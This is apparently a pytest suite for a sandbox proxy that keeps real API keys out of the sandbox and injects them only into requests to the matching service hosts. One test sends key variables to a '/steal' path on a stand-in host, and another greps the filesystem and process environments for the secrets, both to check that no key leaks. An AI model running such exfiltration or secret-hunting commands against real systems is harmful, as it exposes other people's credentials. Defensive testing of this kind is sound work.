"""Credentials that never enter the sandbox: the proxy opens TLS (the sandbox trusts the sbx CA),
puts the real key into requests to the service's hosts only, and scrubs it from what comes back.
Mock Anthropic- and OpenAI-shaped APIs run on the host's loopback with certificates from a test
CA that the proxy trusts through `ca_bundle`; the sandbox reaches them by their real names
through the proxy's address overrides."""
import json
import os
import shutil
import subprocess
import tempfile

import pytest

from conftest import IS_ROOT, Sbx
from netfix import Origin, make_ca

ANTHROPIC_KEY = "sk-ant-api03-REALSECRET-" + "a1b2c3d4e5f6" * 3
OPENAI_KEY = "sk-proj-REALSECRET-" + "0f1e2d3c4b5a" * 3
OTHER = "api.allowed.test"


class Creds:
    def __init__(self):
        self.sbx = Sbx()
        self.tmp = tempfile.mkdtemp(prefix="sbxcred")
        ca, cert, key = make_ca(self.tmp, ["api.anthropic.com", "api.openai.com", "api.groq.com", OTHER])
        self.api = Origin(tls=(cert, key))
        self.ws = self.sbx.workspace("credws")
        self.test_ca = os.path.join(self.ws, "test-ca.pem")  # for opaque tunnels to the mock
        shutil.copy(ca, self.test_ca)
        os.chmod(self.test_ca, 0o644)
        cfg = os.path.join(self.sbx.home, "config")
        os.makedirs(cfg)
        p = self.api.port
        with open(os.path.join(cfg, "config.json"), "w") as f:
            json.dump({"network": {"resolve": [f"api.anthropic.com:443:127.0.0.1:{p}",
                                               f"api.openai.com:443:127.0.0.1:{p}",
                                               f"api.groq.com:443:127.0.0.1:{p}",
                                               f"{OTHER}:443:127.0.0.1:{p}"],
                                   "ca_bundle": ca}}, f)
        self.sbx.ok("policy", "init", "deny-all")
        self.sbx.ok("policy", "allow", "network", f"api.anthropic.com,api.openai.com,api.groq.com,{OTHER}")
        self.sbx.ok("secret", "set", "anthropic", "-g", input=ANTHROPIC_KEY + "\n")
        self.sbx.ok("secret", "set", "openai", "-g", input=OPENAI_KEY + "\n")
        self.sbx.ok("create", "--name", "cred", self.ws)
        self.sbx.ok("start", "cred")

    def sh(self, script, timeout=60):
        return self.sbx.run("exec", "cred", "sh", "-c", script, timeout=timeout)

    def last(self):
        return self.api.requests[-1]

    def close(self):
        self.api.close()
        shutil.rmtree(self.tmp, ignore_errors=True)
        left = self.sbx.cleanup()
        assert not left


@pytest.fixture(scope="module")
def creds():
    if not IS_ROOT:
        pytest.skip("needs root: binds test servers and creates test users")
    c = Creds()
    yield c
    c.close()


def test_the_sandbox_holds_placeholders_not_keys(creds):
    env = creds.sh("env").stdout
    assert ANTHROPIC_KEY not in env and OPENAI_KEY not in env
    line = [l for l in env.splitlines() if l.startswith("ANTHROPIC_API_KEY=")]
    assert line and line[0].split("=", 1)[1].startswith("sk-ant-api03-"), env
    assert [l for l in env.splitlines() if l.startswith("OPENAI_API_KEY=")]


def test_curl_gets_the_key_injected_on_its_host(creds):
    p = creds.sh('curl -sS https://api.anthropic.com/v1/messages -H "x-api-key: $ANTHROPIC_API_KEY" '
                 "-H 'content-type: application/json' -d '{\"model\":\"x\"}'")
    assert p.returncode == 0, p.stderr
    got = creds.last()
    assert got["headers"].get("x-api-key") == ANTHROPIC_KEY
    assert got["path"] == "/v1/messages" and got["method"] == "POST"
    # The mock echoes the request, key included: it comes back masked.
    assert ANTHROPIC_KEY not in p.stdout
    assert "*" * len(ANTHROPIC_KEY) in p.stdout


def test_python_and_node_with_bearer_tokens(creds):
    py = ("import os,urllib.request;"
          "r=urllib.request.Request('https://api.openai.com/v1/models',"
          "headers={'Authorization':'Bearer '+os.environ['OPENAI_API_KEY']});"
          "print(urllib.request.urlopen(r).read().decode())")
    p = creds.sh(f'python3 -c "{py}"')
    assert p.returncode == 0, p.stderr
    assert creds.last()["headers"].get("Authorization") == "Bearer " + OPENAI_KEY
    assert OPENAI_KEY not in p.stdout
    if not shutil.which("node"):
        pytest.skip("node is not installed on this host")
    js = ("fetch('https://api.openai.com/v1/chat',{method:'POST',headers:{authorization:'Bearer '+"
          "process.env.OPENAI_API_KEY},body:'{}'}).then(r=>r.text()).then(t=>console.log(t))"
          ".catch(e=>{console.log('ERR',e.cause&&e.cause.code);process.exit(3)})")
    p = creds.sh(f'node -e "{js}"')
    assert p.returncode == 0, p.stdout + p.stderr
    assert creds.last()["headers"].get("authorization") == "Bearer " + OPENAI_KEY
    assert OPENAI_KEY not in p.stdout


def test_a_placeholder_sent_elsewhere_stays_a_placeholder(creds):
    # No secret is bound to this host: the proxy opens the TLS only for the review classifiers
    # (the client trusts the sbx CA as every sandbox does), and the placeholder goes out as it is.
    p = creds.sh(f'curl -sS https://{OTHER}/steal -H "x-api-key: $ANTHROPIC_API_KEY" '
                 f'-H "Authorization: Bearer $OPENAI_API_KEY"')
    assert p.returncode == 0, p.stderr
    got = creds.last()
    assert got["path"] == "/steal"
    assert ANTHROPIC_KEY not in json.dumps(got) and OPENAI_KEY not in json.dumps(got)
    assert got["headers"]["x-api-key"].startswith("sk-ant-api03-")


def test_plain_http_never_carries_a_secret(creds):
    # http:// to the service host: the proxy puts nothing in outside TLS.
    creds.sh('curl -s -m 5 http://api.anthropic.com:443/plain -H "x-api-key: $ANTHROPIC_API_KEY" || true')
    for r in creds.api.requests:
        if r["path"] == "/plain":
            assert r["headers"].get("x-api-key") != ANTHROPIC_KEY


def test_http_rules_now_apply_to_https(creds):
    creds.sbx.ok("policy", "allow", "network", "api.openai.com", "--method", "GET")
    creds.sbx.ok("policy", "deny", "network", "api.openai.com", "--method", "DELETE")
    n = len(creds.api.requests)
    p = creds.sh("curl -s -o /dev/null -w '%{http_code}' -X DELETE https://api.openai.com/v1/files/x")
    assert p.stdout == "403", p.stdout
    assert len(creds.api.requests) == n
    p = creds.sh("curl -s -o /dev/null -w '%{http_code}' https://api.openai.com/v1/models")
    assert p.stdout == "200"
    recs = creds.sbx.json("policy", "log", "--raw", "--json", "--limit", "2000")
    recs = recs if isinstance(recs, list) else recs.get("records", [])
    assert any(r["method"] == "DELETE" and r["url_path"] == "/v1/files/x" and r["decision"] == "denied" for r in recs)
    assert any(r["method"] == "POST" and r["url_path"] == "/v1/messages" and r["decision"] == "allowed"
               for r in recs)
    creds.sbx.ok("policy", "rm", "network", "api.openai.com", "--method", "DELETE")
    creds.sbx.ok("policy", "rm", "network", "api.openai.com", "--method", "GET")


def test_the_secret_is_nowhere_inside(creds):
    """Not in any file the sandbox can read, not in any process environment, not in anything a
    response brought in (the mock echoed it above)."""
    script = ("for k in '%s' '%s'; do "
              "grep -rlF \"$k\" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null; "
              "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -F \"$k\"; done; true"
              % (ANTHROPIC_KEY, OPENAI_KEY))
    for user in ("agent", "root"):
        p = creds.sbx.run("exec", "-u", user, "cred", "sh", "-c", script, timeout=300)
        assert p.stdout.strip() == "", (user, p.stdout)


def test_secrets_are_not_in_the_log_or_listings(creds):
    log = creds.sbx.log()
    assert ANTHROPIC_KEY not in log and OPENAI_KEY not in log
    out = creds.sbx.ok("secret", "ls", "--json").stdout
    assert ANTHROPIC_KEY not in out and OPENAI_KEY not in out
    out = creds.sbx.ok("policy", "log", "--raw", "--json").stdout
    assert ANTHROPIC_KEY not in out


def test_host_variables_are_used_when_nothing_is_stored(creds):
    """GROQ_API_KEY in the shell that runs `sbx create` is used by the proxy (nothing stored for
    groq); ANTHROPIC_API_KEY there loses to the stored secret. Neither reaches the sandbox."""
    host_groq = "gsk_HOSTVALUE" + "9" * 40
    env = {"GROQ_API_KEY": host_groq, "ANTHROPIC_API_KEY": "sk-ant-api03-HOSTSHOULDLOSE" + "x" * 30}
    creds.sbx.run("create", "--name", "envs", creds.ws, env=env, check=True)
    creds.sbx.run("start", "envs", env=env, check=True)
    try:
        p = creds.sbx.run("exec", "envs", "sh", "-c",
                          'env; curl -sS https://api.groq.com/openai/v1/models -H "Authorization: Bearer $GROQ_API_KEY"'
                          ' -o /dev/null; curl -sS https://api.anthropic.com/v1/x -o /dev/null')
        assert p.returncode == 0, p.stderr
        assert host_groq not in p.stdout and "HOSTSHOULDLOSE" not in p.stdout
        groq = [r for r in creds.api.requests if r["path"] == "/openai/v1/models"][-1]
        assert groq["headers"]["Authorization"] == "Bearer " + host_groq
        ant = [r for r in creds.api.requests if r["path"] == "/v1/x"][-1]
        assert ant["headers"]["x-api-key"] == ANTHROPIC_KEY
    finally:
        creds.sbx.run("rm", "-f", "envs")


def test_a_broken_ca_is_reported_and_interception_refused():
    """A CA file that cannot be used (here: truncated) is never replaced silently: `sbx diagnose`
    names the problem and the fix, and connections that need interception are refused with it;
    opaque tunnels keep working."""
    if not IS_ROOT:
        pytest.skip("needs root")
    s = Sbx()
    try:
        s.ok("daemon", "start")
        s.ok("daemon", "stop")
        ca = os.path.join(s.state_dir, "ca", "ca.pem")
        assert os.path.exists(ca)
        with open(ca, "r+") as f:
            f.truncate(100)
        d = s.json("diagnose", "--json")
        assert d["proxy"]["interception"] is False
        assert "ca.pem" in d["proxy"]["interception_detail"], d["proxy"]
        assert "NOT AVAILABLE" in s.ok("diagnose").stdout
        ws = s.workspace("brokenca")
        s.ok("policy", "init", "deny-all")
        s.ok("policy", "allow", "network", "api.anthropic.com")
        s.ok("secret", "set", "anthropic", "-g", input=ANTHROPIC_KEY + "\n")
        p = s.run("run", "--rm", "shell", ws, "--", "curl", "-s", "-m", "10", "-x", "http://127.0.0.1:3128",
                  "-p", "-o", "/dev/null", "-w", "%{http_connect}", "https://api.anthropic.com/")
        assert p.stdout.startswith("502"), p.stdout + p.stderr
        recs = s.json("policy", "log", "--raw", "--json")
        recs = recs if isinstance(recs, list) else recs.get("records", [])
        assert any("interception" in r["reason"] and "unavailable" in r["reason"] for r in recs), recs
        # the file was left as it was
        assert os.path.getsize(ca) == 100
    finally:
        assert not s.cleanup()
